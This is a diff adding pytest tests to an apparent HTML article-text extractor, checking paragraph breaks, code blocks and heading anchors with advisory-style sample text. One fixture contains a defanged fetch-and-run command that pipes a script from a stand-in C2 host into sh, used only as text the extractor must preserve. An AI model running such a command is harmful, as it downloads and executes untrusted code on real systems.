@@ -76,3 +76,52 @@ def test_hostile_articles_take_bounded_time(body: str) -> None:
     begun = time.process_time()
     read(body)
     assert time.process_time() - begun < 20
+
+
+CALL = "The worm calls home at noon, as three teams saw on their own hosts."
+LOOSE = {
+    "behind a box": f"<div>Related</div>{CALL}<p>More.</p>",
+    "before": f"{CALL.replace('own', '<b>own</b>')}<h2>What to do</h2><p>More.</p>",
+    "between": f"<p>More.</p>{CALL}<ul><li>More</li></ul>",
+    "behind a mark": f"<p><span id=byLine></span>{CALL}</p>",
+}
+
+
+@pytest.mark.parametrize("body", LOOSE.values(), ids=LOOSE)
+def test_words_that_stand_loose_beside_paragraphs_are_text(body: str) -> None:
+    parts = f"<div class=storyBody>{body}{paragraphs('More')}</div>"
+    assert CALL in read(f"<article>{paragraphs('Own')}{parts}</article>").body_text.split("\n\n")
+
+
+def test_two_breaks_end_a_paragraph_and_a_mark_does_not() -> None:
+    loose = f"One. {PROSE}<br> <br>Two loads <b>update.exe</b> from there. {PROSE}<br/>Three."
+    text = read(f"<div id=content><h1>Advisory</h1>{loose}<h2>What to do</h2><p>Block it.</p></div>").body_text
+    assert f"One. {PROSE}\n\nTwo loads update.exe from there. {PROSE}\nThree." in text
+
+
+SET = {
+    "as it stands": "<pre>{}</pre>",
+    "in a figure": '<figure class="highlight"><pre><code class="language-sh">{}</code></pre></figure>',
+    "with numbers": "<div class=highlight><table><tr><td><pre>1\n2</pre></td><td><pre>{}</pre></td></tr></table></div>",
+}
+
+
+@pytest.mark.parametrize("form", SET.values(), ids=SET)
+def test_what_is_set_in_lines_stays_in_lines(form: str) -> None:
+    lines = "Advisory:  SA-1\n\ncurl hxxp://c2.example/x.sh | sh"
+    draft = read(f"<article>{paragraphs('Own')}{form.format(lines)}{paragraphs('More')}</article>")
+    assert lines in draft.body_text
+    assert "<blockquote>" not in draft.body_html
+
+
+def test_a_heading_goes_without_the_link_to_itself() -> None:
+    heading = "<h2 id=what>What happened <a class=anchor href=#what>#</a></h2>"
+    text = read(f"<article>{paragraphs('Own')}{heading}{paragraphs('More')}</article>").body_text
+    assert "What happened" in text.split("\n\n")
+
+
+@pytest.mark.parametrize("name", ["div", "center", "address"])
+def test_a_plain_box_of_words_is_a_paragraph(name: str) -> None:
+    box = f"<{name}>It calls <b>home</b>.</{name}>"
+    text = read(f"<article>{paragraphs('Own')}{box}{paragraphs('More')}</article>").body_text
+    assert "It calls home." in text.split("\n\n")
